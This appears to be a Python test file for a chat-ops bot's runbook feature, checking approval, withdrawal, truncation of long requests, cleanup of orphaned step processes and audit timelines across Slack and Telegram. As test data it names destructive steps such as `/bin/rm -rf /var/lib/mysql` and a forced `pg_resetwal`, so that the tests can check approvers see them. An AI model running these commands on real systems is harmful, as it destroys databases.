    """14 steps: each was given at least 20 characters, and the line, past its 300, was cut by the template in the
    middle of a command, its note and the last step (`/bin/rm -rf /var/lib/mysql`) gone, Approve beside it."""
    s = more
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 many"))
    await thread_says(s, ts, "asks to run runbook Many")
    [line] = [p["text"] for p in s.posts(thread=ts) if "asks to run runbook Many" in p["text"]]
    assert len(line) <= 300 and line.count("`") % 2 == 0, line
    assert line.startswith("Alice asks to run runbook Many (high risk): `/usr/bin/systemctl restart service-number-0`;")
    assert re.search(r"; then [0-9]+ more steps \(cut here: each approver's message and `/incident runbook 1` show "
                     r"them whole\)\. It waits for an approver\.$", line), line
    await s.fake.wait_for(lambda: dm_texts(s), timeout=10)
    assert "`/bin/rm -rf /var/lib/mysql`. Approve it?" in dm_texts(s)[0]


def test_a_few_steps_all_show_on_the_line_cut_and_only_many_are_counted() -> None:
    """The first fix for many steps hid the third of three ("; then 1 more step"), beside Approve."""
    from handlers.runbooks import _steps_in

    three = [{"run": ["/usr/bin/systemctl", "stop", "postgresql@15-main"]},
             {"run": ["/usr/lib/postgresql/15/bin/pg_resetwal", "-f", "/var/lib/postgresql/15/main"]},
             {"run": ["/usr/bin/systemctl", "start", "postgresql@15-main"]}]
    said = _steps_in(three, 138)
    assert said.count("`") == 6 and "more step" not in said and len(said) <= 138, said
    many = [{"run": ["/usr/bin/systemctl", "restart", f"service-number-{n}"]} for n in range(14)]
    said = _steps_in(many, 138)
    assert said.endswith("more steps") and len(said) <= 138, said


def gone(pid: int) -> bool:
    """Whether the process `pid` ended (or is a zombie nobody reaped yet)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(") ", 1)[1].startswith(("Z", "X"))
    except (FileNotFoundError, ProcessLookupError):
        return True


async def test_a_child_a_step_leaves_behind_is_killed_when_the_step_ends(more: Slack, tmp_path: Path) -> None:
    """A step that starts `( sleep 300 ) &` and exits 0 left the sleep running in its process group, and the step
    was said to take the 2 s the bot waited for the child's end of the output pipe."""
    s = more
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 orphan"))
    line = await thread_says(s, ts, "Runbook Orphan")
    assert "finished: step 1" in line and "left a child behind" in line
    child = int((tmp_path / "orphan.pid").read_text())
    for _ in range(50):
        if gone(child):
            break
        await asyncio.sleep(0.05)
    assert gone(child)
    [run] = await runs(s.h)
    assert run.status == "succeeded" and run.results[0]["seconds"] < 1.5


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the parent-death signal is Linux's")
async def test_a_step_running_when_the_bot_is_killed_with_sigkill_dies_with_it(tmp_path: Path) -> None:
    """No `finally` runs on SIGKILL: the step went on running unwatched (its run `interrupted` at the next start).
    A process that runs steps as the bot does (handlers.runbooks.run_step) is killed in the middle of one."""
    pid_file = tmp_path / "step.pid"
    (tmp_path / "step.py").write_text("import os, sys, time\nopen(sys.argv[1], 'w').write(str(os.getpid()))\n"
                                      "time.sleep(300)\n")
    script = ("import asyncio, sys\nfrom handlers.runbooks import run_step\n"
              "asyncio.run(run_step([sys.executable, sys.argv[1], sys.argv[2]], 600, 1))\n")
    root = Path(__file__).resolve().parent.parent
    bot = await asyncio.create_subprocess_exec(sys.executable, "-c", script, str(tmp_path / "step.py"), str(pid_file),
                                               cwd=root)
    try:
        for _ in range(200):
            if pid_file.exists() and pid_file.read_text():
                break
            await asyncio.sleep(0.05)
        step = int(pid_file.read_text())
        assert not gone(step)
    finally:
        bot.kill()
        await bot.wait()
    for _ in range(100):
        if gone(step):
            break
        await asyncio.sleep(0.05)
    assert gone(step), "the step outlived the bot"


async def test_a_request_nobody_else_can_approve_is_refused_up_front(tmp_path: Path, pg_schema: str) -> None:
    """Stored anyway, it waited for an approver who does not exist, and kept the runbook from being asked for."""
    alone = PEOPLE.replace("roles: [responder, approver], slack: U02BOB", "roles: [responder], slack: U02BOB").replace(
        "roles: [approver], telegram", "roles: [], telegram")
    async with FakeSlack() as fake, bot_on("sqlite", tmp_path, pg_schema, slack_config(fake), people=alone,
                                           base=runbook_config(tmp_path)) as h:
        s = Slack(h, fake)
        await posted(s)
        answer = await s.answer(await s.command("/incident", "runbook 1 restart"))
        assert answer["text"] == ("Nobody but you has the `approver` role to approve Restart web (high risk), so it "
                                  "was not asked for: add the role to someone else's `roles` in app.yaml.")
        assert await runs(h) == [] and not [a for a in await h.actions(1) if a.startswith("runbook.")]


async def test_whoever_asked_can_withdraw_their_request_without_the_approver_role(more: Slack, tmp_path: Path) -> None:
    s = more
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 restart", user="U05DAVE"))
    _, _, key = await s.click("rej:1:1", ts, user="U04VIC")  # neither an approver nor who asked
    assert "needs the `approver` role" in (await s.answer(key))["text"]
    _, _, key = await s.click("apv:1:1", ts, user="U05DAVE")
    assert "needs the `approver` role" in (await s.answer(key))["text"]
    _, _, key = await s.click("rej:1:1", ts, user="U05DAVE")
    assert (await s.answer(key))["text"] == "Withdrawn: Restart web does not run on #1."
    await thread_says(s, ts, "Dave withdrew the request to run runbook Restart web")
    [run] = await runs(s.h)
    assert (run.status, run.rejected_by) == ("cancelled", "dave") and recorded(tmp_path / "restart.jsonl") == []
    _, _, key = await s.click("apv:1:1", ts, user="U02BOB")
    assert (await s.answer(key))["text"] == "Restart web on #1 was withdrawn by Dave: nothing more was done."
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == ["runbook.requested", "runbook.cancelled"]
    # asked again, and rejected by an approver as before
    assert "Asked to run Restart web" in (await s.answer(await s.command("/incident", "runbook 1 restart",
                                                                          user="U05DAVE")))["text"]
    _, _, key = await s.click("rej:1:2", ts, user="U02BOB")
    assert (await s.answer(key))["text"] == "Rejected: Restart web does not run on #1."


async def test_incidents_show_says_which_runbook_each_event_was_and_how_it_ended(
        more: Slack, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The timeline merged one person's requests of different runbooks into `runbook.requested ×3`, and no runbook
    event had a detail: which runbook, what became of it, its exit codes, why a step could not start."""
    from bot.cli import main
    from tests.test_cli import _timeline, config

    s = more
    ts = await posted(s)
    for runbook in ("greet", "nostart", "restart", "hang"):
        await s.answer(await s.command("/incident", f"runbook 1 {runbook}"))
        await s.h.bot.runbooks.idle()
    _, _, key = await s.click("rej:1:4", ts)  # Alice withdraws Hang
    _, _, key = await s.click("apv:1:3", ts, user="U02BOB")
    await thread_says(s, ts, "Runbook Restart web (approved by Bob) finished")
    [finished] = [e for e in await audit_events(s.h) if e.action == "runbook.finished" and e.subject_id == "2"]
    assert finished.details["status"] == "failed" and "No such file" in finished.details["steps"][0]["error"]
    cfg = config(tmp_path / "cli", f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}")
    assert await asyncio.to_thread(main, ["incidents", "show", "1", "-c", str(cfg)]) == 0
    said = [line.split(" ", 3)[3] for line in _timeline(capsys.readouterr().out) if "runbook." in line]
    assert said == [
        "runbook.requested Alice greet, run 1, low risk",
        "runbook.started system:runbooks greet, run 1",
        "runbook.finished system:runbooks greet, run 1: succeeded, step 1 exit 0",
        "runbook.requested Alice nostart, run 2, low risk",
        "runbook.started system:runbooks nostart, run 2",
        "runbook.finished system:runbooks nostart, run 2: failed, step 1 could not start (No such file or directory)",
        "runbook.requested Alice restart, run 3, high risk",
        "runbook.requested Alice hang, run 4, medium risk",
        "runbook.cancelled Alice hang, run 4",
        "runbook.approved Bob restart, run 3",
        "runbook.started system:runbooks restart, run 3",
        "runbook.finished system:runbooks restart, run 3: succeeded, step 1 exit 0",
    ]


async def audit_events(h: Harness) -> list[Any]:
    from storage.models import AuditEvent

    async with h.bot.db.sessions() as session:
        return list((await session.execute(select(AuditEvent).order_by(AuditEvent.seq))).scalars().all())


async def test_a_request_has_approve_and_reject_in_the_thread_on_slack_and_telegram(tmp_path: Path) -> None:
    """The thread's line of a request had no buttons (only the approvers' direct messages did), so whoever asked had
    no Reject to withdraw it with; and Telegram showed its commands between literal backticks."""
    medium = runbook_config(tmp_path).replace("title: Restart web, risk: high", "title: Restart web, risk: medium")
    async with FakeSlack() as slack, FakeTelegram() as tg:
        extra = slack_config(slack) + (f"  telegram: {{bot_token: '{tg.token}', webhook_secret: {TG_SECRET}, "
                                       f"api_url: '{tg.api_url}'}}\n")
        async with running_bot(f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}", extra, people=PEOPLE,
                               base=medium) as h:
            b = Both(h, Slack(h, slack), tg)
            status, _, _ = await h.post("am", nasty_alert("alertmanager/01-diskfull-firing-2-alerts.json"))
            assert status == 200
            await tg.wait_for(lambda: tg.called("sendMessage") and slack.called("chat.postMessage"), timeout=5)
            for _ in range(100):  # the message rows commit just after the platforms' answers
                try:
                    ts, group = await h.message_of(1), int(await h.message_of(1, "ops-telegram"))
                    break
                except Exception:
                    await asyncio.sleep(0.02)
            else:
                raise AssertionError("the incident's messages were never recorded")

            async def asked(run: int) -> tuple[str, int]:
                """The Slack thread's reply and the Telegram group's reply that ask for run `run`."""
                await thread_says(b.slack, ts, "Alice asks to run runbook Restart web (medium risk)")

                def found() -> tuple[str, int] | None:
                    slack_line = [t for (c, t), m in slack.messages.items() if c == "C0OPS" and m.get("thread_ts") == ts
                                  and "asks to run" in m["text"] and f"apv:1:{run}" in map(untagged, button_values(m))]
                    tg_line = [mid for (c, mid), m in tg.messages.items() if c == GROUP and "asks to run" in m["text"]
                               and (m.get("reply_to_message") or {}).get("message_id") == group
                               and f"apv:1:{run}" in b.tg_keyboard(mid)]
                    return (slack_line[0], tg_line[0]) if slack_line and tg_line else None
                # (the group takes 20 messages a minute, 3 at once: the first request's line, redrawn once withdrawn,
                # spends one more of them, and the second request's line waits a few seconds for it)
                await tg.wait_for(found, timeout=15)
                result = found()
                assert result is not None
                return result

            await b.slack.answer(await b.slack.command("/incident", "runbook 1 restart"))
            line, tg_line = await asked(1)
            assert button_values(slack.messages[("C0OPS", line)]) == ["apv:1:1", "rej:1:1"]
            assert b.tg_keyboard(tg_line) == ["apv:1:1", "rej:1:1"]
            said = tg.messages[(GROUP, tg_line)]["text"]
            assert "(medium risk): <code>" in said and "record.py" in said and "`" not in said
            # Alice, who asked, withdraws it with the thread's Reject
            reject = next(v for v in button_values(slack.messages[("C0OPS", line)], tagged=True)
                          if v.startswith("rej:"))
            _, _, key = await b.slack.click(reject, line)
            assert (await b.slack.answer(key))["text"] == "Withdrawn: Restart web does not run on #1."
            assert [(r.status, r.rejected_by) for r in await runs(h)] == [("cancelled", "alice")]
            # asked again; Carol approves it in the Telegram group's thread, twice: it runs once
            await b.slack.answer(await b.slack.command("/incident", "runbook 1 restart"))
            line, tg_line = await asked(2)
            await b.tap("apv:1:2", tg_line, user=333333)
            await b.tap("apv:1:2", tg_line, user=333333)
            await h.bot.runbooks.idle()
            await thread_says(b.slack, ts, "Runbook Restart web (approved by Carol) finished")
            assert [(r.status, r.approved_by) for r in await runs(h)][1] == ("succeeded", "carol")
            assert len(recorded(tmp_path / "restart.jsonl")) == 1
